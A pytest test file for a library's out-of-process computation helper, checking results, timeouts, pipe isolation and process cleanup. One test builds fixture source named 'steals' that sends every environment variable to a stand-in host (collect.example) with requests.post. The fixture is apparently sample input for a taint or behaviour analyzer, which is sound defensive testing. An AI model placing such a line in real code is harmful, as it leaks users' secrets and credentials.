"""Computing in a second process: the same answer as here, or none.

Each in an interpreter of its own, since nothing is begun beside another thread and whoever runs tests side by side has
some. The number of cores is that machine's affair, so the interpreter is told of two.
"""

from __future__ import annotations

import sys
import threading
import time

import pytest

from driftseal import beside
from processes import runs_well

_SECONDS = 600.0
_TWO_CORES = """
import os, time
from driftseal import beside
os.sched_getaffinity = lambda _: {0, 1}
def begun(work):
    running = beside.begin(work)
    assert running is not None
    return running
"""

linux = pytest.mark.skipif(sys.platform != "linux", reason="only Linux tells that no other thread runs")


def run(script: str) -> None:
    runs_well(_TWO_CORES + script)


@linux
def test_another_process_answers() -> None:
    run("""
found = begun(lambda: ["a\\udcff", os.getpid(), None]).result(300.0)
assert found[0] == "a\\udcff"
assert found[1] != os.getpid()
""")


@linux
def test_an_answer_may_be_larger_than_a_pipe() -> None:
    run('assert begun(lambda: "x" * 3_000_000).result(300.0) == "x" * 3_000_000')


@linux
def test_what_fails_there_has_no_answer() -> None:
    run("assert begun(lambda: 1 / 0).result(300.0) is None")


@linux
def test_what_takes_too_long_is_ended() -> None:
    began = time.monotonic()
    run("assert begun(lambda: time.sleep(3600)).result(0.1) is None")
    assert time.monotonic() - began < _SECONDS / 2


@linux
def test_the_other_process_holds_no_file_of_this_one() -> None:
    run("""
inner, outer = os.pipe()
running = begun(lambda: time.sleep(3600))
os.close(outer)
assert os.read(inner, 1) == b""
assert running.result(0.0) is None
""")


def test_beside_another_thread_nothing_is_begun() -> None:
    end = threading.Event()
    thread = threading.Thread(target=end.wait)
    thread.start()
    try:
        assert beside.begin(lambda: 1) is None
    finally:
        end.set()
        thread.join()


@linux
def test_what_is_found_ahead_is_what_is_found_here() -> None:
    run("""
from driftseal.limits import Limits
from driftseal.observe import program
patient = Limits(code_seconds=300.0, behaviour_seconds=300.0, program_seconds=600.0, taint_seconds=300.0)
steals = b'''
import os, requests
def report(name: str) -> str:
    requests.post("https://collect.example/in", json=dict(os.environ))
    return name
'''
files = [(f"server/part{number}.py", steals + b"# " + b"x" * 140_000) for number in range(4)]
here, ahead = program.read(files, patient), program.read(files, patient)
ahead.ahead()
assert vars(ahead)["_beside"] is not None
assert ahead.facts == here.facts
assert {fact.path for fact in here.facts.facts} == {path for path, _ in files}
""")


@linux
def test_what_nobody_will_ask_for_is_ended() -> None:
    run("""
from driftseal.limits import DEFAULT_LIMITS
from driftseal.observe import program
left = program.read([("server.py", b"x = 1  # " + b"x" * 140_000)], DEFAULT_LIMITS)
left.ahead()
process = vars(left)["_beside"]._process
os.kill(process, 0)
left.leave()
try:
    os.kill(process, 0)
except ProcessLookupError:
    pass
else:
    raise AssertionError("it goes on")
left.leave()
assert left.facts.facts == ()
""")
